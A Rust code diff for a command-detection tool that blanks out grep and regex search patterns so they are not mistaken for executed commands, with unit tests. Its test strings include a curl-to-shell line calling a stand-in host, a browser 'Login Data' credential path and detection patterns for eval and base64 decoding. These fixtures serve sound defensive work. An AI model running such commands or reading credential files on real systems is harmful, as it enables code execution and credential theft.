@@ -246,8 +246,10 @@ fn spans(line: &str, context: &str) -> Option<String> {
                 before.chars().rev().take(NEAR).collect::<Vec<_>>().into_iter().rev().collect();
         }
     }
+    // The words around the commands, not those in them.
+    let around: String = line.split('`').step_by(2).collect();
     let heading = context.lines().next().unwrap_or_default();
-    (commands.len() > 12 && !crate::code::teaches(heading) && !crate::code::teaches(line))
+    (commands.len() > 12 && !crate::code::teaches(heading) && !crate::code::teaches(&around))
         .then_some(commands)
 }
 
@@ -267,8 +269,93 @@ fn bare(text: &str) -> String {
         if comment {
             out.push('\n');
         } else {
-            out.push_str(line);
+            sought(line, &mut out);
         }
     }
     out
+}
+
+/// A line without the patterns that a search looks for, which are no deeds: what stands between single quotation
+/// marks behind `grep`, and raw strings that only an expression could be. Nothing of it is run, whatever it says.
+fn sought(line: &str, out: &mut String) {
+    let search = ["grep ", "rg ", "ripgrep ", "Select-String", "findstr "]
+        .iter()
+        .filter_map(|word| line.find(word))
+        .min();
+    let mut rest = line;
+    if let Some(at) = search {
+        let (before, after) = rest.split_at(at);
+        out.push_str(before);
+        rest = after;
+        // Up to the next command of the line.
+        while let Some(open) = rest.find('\'') {
+            let Some(close) = rest.get(open + 1..).and_then(|rest| rest.find('\'')) else { break };
+            let close = open + 1 + close;
+            let lead = rest.get(..open).unwrap_or_default();
+            if lead.contains(['|', ';', '&', '`']) {
+                break;
+            }
+            out.push_str(lead);
+            out.push_str("''");
+            rest = rest.get(close + 1..).unwrap_or_default();
+        }
+        out.push_str(rest);
+        return;
+    }
+    // A pattern that is run is none.
+    let runs =
+        ["exec(", "eval(", "system(", "popen(", "compile("].iter().any(|run| line.contains(run));
+    while let Some(at) = ["r\"", "r'"].iter().filter_map(|open| rest.find(open)).min() {
+        let before = rest.get(..at).unwrap_or_default();
+        let joined = before.ends_with(|c: char| c.is_alphanumeric() || c == '_');
+        let quote =
+            if rest.get(at + 1..).is_some_and(|rest| rest.starts_with('"')) { '"' } else { '\'' };
+        let body = rest.get(at + 2..).unwrap_or_default();
+        let close = body.find(quote);
+        match close.and_then(|close| body.get(..close)) {
+            Some(inner) if !joined && !runs && is_expression(inner) => {
+                out.push_str(before);
+                out.push_str("''");
+                rest = body.get(inner.len() + 1..).unwrap_or_default();
+            }
+            _ => {
+                out.push_str(rest.get(..at + 2).unwrap_or_default());
+                rest = body;
+            }
+        }
+    }
+    out.push_str(rest);
+}
+
+/// Can this be nothing but a regular expression?
+fn is_expression(text: &str) -> bool {
+    ["\\s+", "\\s*", "\\w+", "\\d+", "\\b(", "(?:", "(?i)", "[^", ".*", ".+?", "\\s?"]
+        .iter()
+        .any(|mark| text.contains(mark))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kept(line: &str) -> String {
+        let mut out = String::new();
+        sought(line, &mut out);
+        out
+    }
+
+    #[test]
+    fn what_a_search_looks_for_is_no_deed() {
+        assert_eq!(kept("grep -rnE 'curl[^|]*\\| sh' \"$d\"\n"), "grep -rnE '' \"$d\"\n");
+        assert_eq!(kept("P = [r\"b64decode\\s*\\(\", r'eval.*']\n"), "P = ['', '']\n");
+        for line in [
+            "grep x f | sh -c 'curl http://a.example | sh'\n",
+            "open(r'C:\\Users\\me\\Login Data')\n",
+            "var'a.*b'\n",
+            "exec(r'import os; f(\\s+)')\n",
+            "grep 'unclosed\n",
+        ] {
+            assert_eq!(kept(line), line);
+        }
+    }
 }
